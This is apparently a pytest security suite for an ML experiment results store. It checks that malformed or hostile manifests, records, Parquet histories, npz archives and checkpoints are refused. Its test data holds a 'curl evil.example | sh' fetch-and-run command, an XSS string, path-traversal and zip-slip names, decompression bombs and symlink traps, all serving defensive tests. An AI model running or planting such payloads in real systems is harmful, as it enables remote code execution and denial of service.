"""What a folder of results may hold that no run of ours leaves: each costs a message or a run, never the machine, and never a file elsewhere."""

from __future__ import annotations

import io
import json
import os
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any
from zipfile import ZIP_DEFLATED, ZipFile

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import torch

from lal.budget import Budget
from lal.errors import Refused
from lal.runs.packing import glimpsed, packed, unpacked
from lal.store import Failure, Record, Store, decoded, decoded_arrays, encoded, history_table, intact
from lal.store.files import MAX_MANIFEST
from launch.parsing.expansion import MAX_RUNS
from launch.submitting.job_commands import records_of
from launch.submitting.jobs import Job
from tests.security.folders import changed, finished, ran, readers, zipped

MANIFEST = "sweeps/tiny/manifest.json"
HUGE = 10**400
MARKUP = "<img src=x onerror=alert(1)>"


@pytest.fixture(scope="module")
def whole(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, list[str]]:
    place = tmp_path_factory.mktemp("whole")
    return place, finished(place)


@pytest.fixture
def folder(whole: tuple[Path, list[str]], tmp_path: Path) -> tuple[Path, str]:
    """A copy of the finished sweep in a folder of its own, and its first run."""
    shutil.copytree(whole[0], tmp_path, dirs_exist_ok=True)
    return tmp_path, whole[1][0]


OF_MANIFESTS: dict[str, tuple[list[Any], Any]] = {
    "no budget": (["runs", 0, "budget"], 3),
    "a budget that cannot be": (["runs", 0, "budget", "steps"], HUGE),
    "a budget of another": (["runs", 0, "budget"], {"kind": "x"}),
    "not a number": (["runs", 1, "budget", "timeout_s"], float("nan")),
    "a run that is none": (["runs", 0], "x"),
    "a run elsewhere": (["runs", 0, "run_id"], "../../../etc"),
    "an arm that is no text": (["runs", 1, "arm"], []),
    "a point that is none": (["runs", 0, "point"], "../../x"),
    "a huge value": (["runs", 0, "point"], {"penalties.routing.weight": HUGE}),
    "a cadence of text": (["runs", 1, "eval_every"], MARKUP),
    "a cadence of nothing": (["runs", 1, "eval_every"], 0),
    "a huge seed": (["runs", 0, "seed"], 2**63),
    "an axis that is none": (["axes", 0], [[]]),
    "a goal without a column": (["goal", "column"], float("nan")),
    "a goal that is none": (["fit"], "../../x"),
    "a folder that is none": (["folder"], [[]]),
    "a folder elsewhere": (["folder"], "../../x"),
    "a name elsewhere": (["name"], "/etc/passwd"),
    "a command of another": (["command"], "curl evil.example | sh"),
    "a command that hides another": (["command"], "lal sweep tiny 'x"),
    "thresholds of text": (["report"], {"thresholds": {"goal": "high"}}),
    "a phase diagram of lists": (["report"], {"phase": {"x": ["a"]}}),
    "objectives of lists": (["report"], {"pareto": {"maximise": ["a"]}}),
    "a question that is none": (["question"], {"a": 1}),
}


@pytest.mark.parametrize(("path", "value"), OF_MANIFESTS.values(), ids=OF_MANIFESTS)
def test_a_manifest_that_no_sweep_writes_is_refused(folder: tuple[Path, str], path: list[Any], value: Any) -> None:
    changed(folder[0] / "results" / MANIFEST, path, value)
    with pytest.raises(Refused, match=r"manifest must .* is damaged \(.*run `lal sweep` again") as refusal:
        Store(folder[0] / "results").manifest("tiny")
    assert len(str(refusal.value)) < 1000


OF_RECORDS: dict[str, tuple[list[Any], Any]] = {
    "an outcome of markup": (["outcome"], MARKUP),
    "a trajectory that is a list": (["trajectory"], [[]]),
    "steps of text": (["steps"], "many"),
    "fewer steps than none": (["steps"], -1),
    "huge steps": (["steps"], HUGE),
    "no time": (["seconds"], float("nan")),
    "endless time": (["seconds"], float("inf")),
    "another environment": (["environment"], [1]),
    "a commit that is a number": (["environment", "commit"], 3),
    "versions that are a list": (["environment", "versions"], ["x"]),
    "a version that is a mapping": (["environment", "versions"], {"torch": {}}),
    "notes that are text": (["environment", "notes"], "abc"),
    "a measure of nothing": (["measure"], None),
    "a field of another": (["more"], 1),
}


@pytest.mark.parametrize(("path", "value"), OF_RECORDS.values(), ids=OF_RECORDS)
def test_a_record_that_no_run_writes_is_damaged(folder: tuple[Path, str], path: list[Any], value: Any) -> None:
    place, run_id = folder
    run = Store(place / "results").run(run_id)
    assert isinstance(run.record(), Record)
    changed(place / "results/runs" / run_id / "record.json", path, value)
    assert run.record() is None


def test_of_wrong_records_and_failures_every_command_says_something(folder: tuple[Path, str]) -> None:
    place, run_id = folder
    runs = place / "results/runs"
    changed(runs / run_id / "record.json", ["trajectory"], {"kind": "supervised", "model": [MARKUP]})
    (runs / run_id / "failure.json").write_text('{"schema": 1, "outcome": "error", "environment": []}')
    for words in readers(place, run_id):
        code, said = ran(*words)
        assert (code == 0) or said.startswith("lal: "), said


def test_of_a_record_nested_as_deep_as_a_parser_bears_every_command_says_something(folder: tuple[Path, str]) -> None:
    place, run_id = folder
    record = place / "results/runs" / run_id / "record.json"
    whole = json.loads(record.read_text()) | {"trajectory": "NESTED"}
    record.write_text(json.dumps(whole).replace('"NESTED"', '{"a":' * 700 + "1" + "}" * 700))
    for words in readers(place, run_id):
        code, said = ran(*words)
        assert (code == 0) or said.startswith("lal: "), said


DEEP = b'{"a":' * 100_000
NESTED = b'{"schema": 1, "trajectory": ' + b'{"a":' * 300 + b"1" + b"}" * 301  # which a parser reads, and who walks it by recursion may not
OF_JSON = {
    "deep": DEEP,
    "nested": NESTED,
    "deep lists": b"[" * 10**6,
    "a huge number": b'{"schema": ' + b"9" * 10_000 + b"}",
    "no text": bytes(range(256)),
    "a list": b"[]",
}


@pytest.mark.parametrize("data", OF_JSON.values(), ids=OF_JSON)
def test_json_that_would_break_a_reader_is_none(store: Store, data: bytes) -> None:
    store.put("sweeps/a/manifest.json", data)
    assert store.get_json("sweeps/a/manifest.json") is None
    with pytest.raises(Refused, match="is damaged"):
        store.manifest("a")


@pytest.mark.parametrize(("path", "state"), [("runs/a-1/record.json", None), ("sweeps/a/manifest.json", "is damaged")])
def test_json_that_would_fill_memory_is_not_read(store: Store, tmp_path: Path, path: str, state: str | None) -> None:
    """A hole in a file takes no room on disk."""
    store.put(path, b"{}")
    os.truncate(tmp_path / "results" / path, 2**40)
    assert store.get_json(path) is store.patient().get_json(path) is store.listed("runs").get_json(path) is None
    if state:
        with pytest.raises(Refused, match=state):
            store.manifest("a")


def test_a_manifest_of_as_many_runs_as_may_be_is_read() -> None:
    entry = {
        "run_id": "a" * 100,
        "arm": "soft",
        "name": None,
        "point": dict.fromkeys(("penalties.routing.weight", "optim.weight_decay"), 0.123456789),
        "seed": 1,
    }
    facts = {"budget": Budget().model_dump(mode="json"), "eval_every": 100, "state": "new"}
    assert len(json.dumps(entry | facts, indent=1)) * MAX_RUNS < MAX_MANIFEST


@pytest.mark.parametrize(
    ("results", "sweep"),
    [
        ("results", "tiny"),
        ("results", "../tiny"),
        ("results", "\x00"),
        ("a\x00b", "tiny"),
        ("x" * 5000, "tiny"),
        ("s3:///", "tiny"),
        ("/dev/zero", "tiny"),
        ("", "tiny"),
    ],
)
@pytest.mark.parametrize("data", [b"[" * 10**6, b'{"runs": [{"run_id": "../../x"}]}', b'{"runs": 3}', b'{"schema": 99, "runs": []}', None])
def test_of_a_job_whose_results_are_a_strangers_status_says_what_can_be_read(tmp_path: Path, results: str, sweep: str, data: bytes | None) -> None:
    place = tmp_path / "results/sweeps/tiny"
    place.mkdir(parents=True)
    (place / "manifest.json").write_bytes(data) if data else (place / "manifest.json").symlink_to("/dev/zero")
    where = str(tmp_path / "results") if results == "results" else results
    assert records_of(Job("a", sweep, where, "lal sweep tiny", "", 1, "RUNNING", "", None, None, None)) is None


def test_status_counts_runs_whose_files_are_a_strangers_as_missing(folder: tuple[Path, str]) -> None:
    place, run_id = folder
    job = Job("a", "tiny", str(place / "results"), "lal sweep tiny", "", 1, "RUNNING", "", None, None, None)
    before = records_of(job)
    assert before
    for deep in (DEEP, NESTED):
        (place / "results/runs" / run_id / "record.json").write_bytes(deep)
        counts = records_of(job)
        assert counts and counts["missing"] == 1 and sum(counts.values()) == sum(before.values())


def rows(**columns: Any) -> bytes:
    sink = io.BytesIO()
    pq.write_table(pa.table(columns), sink)
    return sink.getvalue()


OF_HISTORIES = {
    "steps of text": rows(step=["0", "2"]),
    "broken steps": rows(step=[0.0, 2.5]),
    "steps that are missing": rows(step=[0, None]),
    "no steps": rows(loss=[0.0]),
    "steps that fall": rows(step=[2, 0]),
    "a step twice": rows(step=[0, 0]),
    "steps before the first": rows(step=[-1, 0]),
    "measurements of text": rows(step=[0], test_acc=["high"]),
    "measurements that are texts in lists": rows(step=[0], gates=[["high"]]),
    "measurements that are mappings": rows(step=[0], test_acc=[{"a": 1}]),
    "measurements of bytes": rows(step=[0], test_acc=[b"x"]),
    "measurements of days": rows(step=[0], test_acc=pa.array([0], pa.timestamp("s"))),
}


@pytest.mark.parametrize("data", OF_HISTORIES.values(), ids=OF_HISTORIES)
def test_a_history_that_no_run_writes_is_damaged(data: bytes) -> None:
    assert history_table(data) is None
    assert history_table(encoded([{"step": 0, "test_acc": 0.5, "gates": [0.1]}, {"step": 2, "ok": True}])) is not None


def test_two_columns_of_one_name_are_damaged() -> None:
    sink = io.BytesIO()
    pq.write_table(pa.table([pa.array([0]), pa.array([1])], names=["step", "step"]), sink)
    assert decoded(sink.getvalue()) is history_table(sink.getvalue()) is None


def test_a_small_table_that_becomes_gigabytes_is_damaged() -> None:
    """A repeated value, a repeated text, and a long list: each a few kilobytes that would take the memory of a machine."""
    n = 2**16
    numbers = {f"c{index}": pa.DictionaryArray.from_arrays(pa.array(np.zeros(n, np.int8)), pa.array([0.0])) for index in range(8)}
    text = pa.DictionaryArray.from_arrays(pa.array(np.zeros(n, np.int8)), pa.array(["x" * 2**16]))
    assert decoded(written({"step": text})) is None
    lists = pa.ListArray.from_arrays(pa.array([0, n]), pa.array(np.zeros(n)))
    for columns in (numbers, {"a": lists}):
        data = written(columns)
        assert decoded(data) is not None
        assert bounded_by(2**18, lambda data=data: decoded(data)) is None


def written(columns: dict[str, Any]) -> bytes:
    sink = io.BytesIO()
    pq.write_table(pa.table(columns), sink, compression="zstd")
    assert len(sink.getvalue()) < 2**17
    return sink.getvalue()


def bounded_by(most: int, read: Callable[[], Any]) -> Any:
    """What `read` gives under a bound that takes no gigabytes to test."""
    with pytest.MonkeyPatch.context() as patched:
        patched.setattr("lal.store.codec.MAX_INFLATED", most)
        return read()


def deflated(n_bytes: int, said: int | None = None) -> bytes:
    """An npz of one array of zeros; its header may say that it has `said` numbers."""
    buffer, header = io.BytesIO(), io.BytesIO()
    np.lib.format.write_array_header_1_0(header, {"descr": "|i1", "fortran_order": False, "shape": (n_bytes if said is None else said,)})
    with ZipFile(buffer, "w", ZIP_DEFLATED) as archive:
        archive.writestr("gates.npy", header.getvalue() + bytes(n_bytes))
    return buffer.getvalue()


def test_an_archive_that_becomes_gigabytes_is_damaged() -> None:
    data = deflated(2**20)
    assert len(data) < 2**12
    arrays = decoded_arrays(data)
    assert arrays is not None and arrays["gates"].nbytes == 2**20
    assert bounded_by(2**19, lambda: decoded_arrays(data)) is None
    assert bounded_by(2**19, lambda: intact(data)) is False
    state = packed({"a": torch.zeros(2**18)})  # larger than the bound, and no larger in memory than it is
    assert bounded_by(2**19, lambda: unpacked(state)) is not None


def test_a_checkpoint_that_becomes_gigabytes_is_damaged() -> None:
    buffer = io.BytesIO()
    with ZipFile(io.BytesIO(packed({"a": torch.zeros(2**18)}))) as plain, ZipFile(buffer, "w", ZIP_DEFLATED) as small:
        for name in plain.namelist():
            small.writestr(name, plain.read(name))
    data = buffer.getvalue()
    assert unpacked(data) is not None
    assert bounded_by(2**19, lambda: unpacked(data)) is bounded_by(2**19, lambda: glimpsed(data)) is None


HEADERS = {
    "a size that no machine has": deflated(8, said=2**60),
    "no header": zipped({"a.npy": b"\x93NUMPY\x01\x00\x76\x00" + b"(" * 118}),
    "no array": zipped({"a.txt": b"x"}),
    "a name that leaves": zipped({"../../a.npy": b"x"}),
}


@pytest.mark.parametrize("data", HEADERS.values(), ids=HEADERS)
def test_arrays_that_are_none_are_damaged(data: bytes) -> None:
    assert decoded_arrays(data) is None


STATES: dict[str, Callable[[dict[str, Any]], dict[str, Any]]] = {
    "no state": lambda saved: saved | {"state": {}},
    "a state of text": lambda saved: saved | {"state": "x"},
    "of other shapes": lambda saved: saved | {"state": saved["state"] | {"network": {name: torch.zeros(3) for name in saved["state"]["network"]}}},
    "a view of nothing as a huge tensor": lambda saved: (
        saved | {"state": saved["state"] | {"network": {name: torch.zeros(1).expand(2**40) for name in saved["state"]["network"]}}}
    ),
    "steps of text": lambda saved: saved | {"step": "x"},
    "steps before the first": lambda saved: saved | {"step": -2},
    "more threads than any machine has": lambda saved: saved | {"threads": 10**9},
    "another trajectory": lambda saved: saved | {"trajectory": {"kind": "x"}},
    "a trajectory of lists": lambda saved: saved | {"trajectory": [[]]},
    "a measure of text": lambda saved: saved | {"measure": {"metrics": 3}},
    "notes of numbers": lambda saved: saved | {"notes": 3},
}


@pytest.mark.parametrize("change", STATES.values(), ids=STATES)
def test_a_checkpoint_that_no_run_saves_costs_a_message_or_the_run(folder: tuple[Path, str], change: Callable[[dict[str, Any]], dict[str, Any]]) -> None:
    place, run_id = folder
    store = Store(place / "results")
    run = store.run(run_id)
    run.put_bytes("checkpoint.pt", packed(change(unpacked(run.get_bytes("checkpoint.pt")) or {})))
    store.remove(f"{run.path}/record.json")
    code, said = ran(*readers(place, run_id)[-1])
    if code == 0:
        assert isinstance(run.record(), Record)
    elif code == 2:
        assert "a stored run must have the trajectory that is asked for" in said
    else:
        failure = run.failure()
        assert isinstance(failure, Failure)
        assert "a saved state must fit its run" in failure.reason and "move it away" in failure.reason


def outside(tmp_path: Path) -> tuple[Store, Path, list[Path]]:
    """A results folder, another person's folder, and files in it that look like ours."""
    theirs = tmp_path / "theirs"
    files = [theirs / name for name in ("record.json", "checkpoint.pt", "history/part-00001.parquet", "arrays/step-000000002.npz", ".x.tmp", "manifest.json")]
    for file in files:
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text("mine")
    return Store(tmp_path / "results"), theirs, files


def test_nothing_is_removed_or_written_where_links_lead(tmp_path: Path) -> None:
    store, theirs, files = outside(tmp_path)
    runs = tmp_path / "results/runs"
    (runs / "b-1").mkdir(parents=True)
    (runs / "a-1").symlink_to(theirs)
    for name in ("history", "arrays"):
        (runs / "b-1" / name).symlink_to(theirs / name)
    for change in (
        lambda: store.run("a-1").reset(),
        lambda: store.run("a-1").restart(),
        lambda: store.run("a-1").tidy(),
        lambda: store.run("b-1").drop_parts(),
        lambda: store.run("b-1").prune(lambda step: False, lambda step: False),
        lambda: store.put("runs/a-1/record.json", b"{}"),
        lambda: store.create("runs/a-1/claim.json", b"{}"),
        lambda: store.put("runs/../../theirs/record.json", b"{}"),
    ):
        with pytest.raises(Refused, match=r"what is changed in a results folder must be in it, but a link .* leads .*theirs"):
            change()
    store.run("b-1").tidy()
    assert [file.read_text() for file in files] == ["mine"] * len(files)


def test_a_link_in_place_of_a_file_is_replaced_not_followed(tmp_path: Path) -> None:
    store, theirs, files = outside(tmp_path)
    (tmp_path / "results/runs/a-1").mkdir(parents=True)
    (tmp_path / "results/runs/a-1/record.json").symlink_to(theirs / "record.json")
    store.put("runs/a-1/record.json", b"{}")
    (tmp_path / "results/runs/a-1/checkpoint.pt").symlink_to(theirs / "checkpoint.pt")
    store.remove("runs/a-1/checkpoint.pt")
    assert [file.read_text() for file in files] == ["mine"] * len(files)
    assert store.get("runs/a-1/record.json") == b"{}"


def test_a_results_folder_may_itself_be_a_link(tmp_path: Path) -> None:
    (tmp_path / "disk").mkdir()
    (tmp_path / "results").symlink_to(tmp_path / "disk")
    store = Store(tmp_path / "results")
    store.put("runs/a-1/x", b"1")
    store.remove("runs/a-1/x")
    store.tidy("runs/a-1")
    assert not (tmp_path / "disk/runs/a-1/x").exists()


def test_what_never_ends_is_not_read(store: Store, tmp_path: Path) -> None:
    folder = tmp_path / "results/runs/a-1"
    folder.mkdir(parents=True)
    os.mkfifo(folder / "record.json")
    (folder / "checkpoint.pt").symlink_to("/dev/zero")
    (folder / "config.json").symlink_to(folder / "config.json")
    assert store.run("a-1").record() is store.get("runs/a-1/checkpoint.pt") is None
    with pytest.raises(OSError, match="symbolic links"):
        store.get("runs/a-1/config.json")
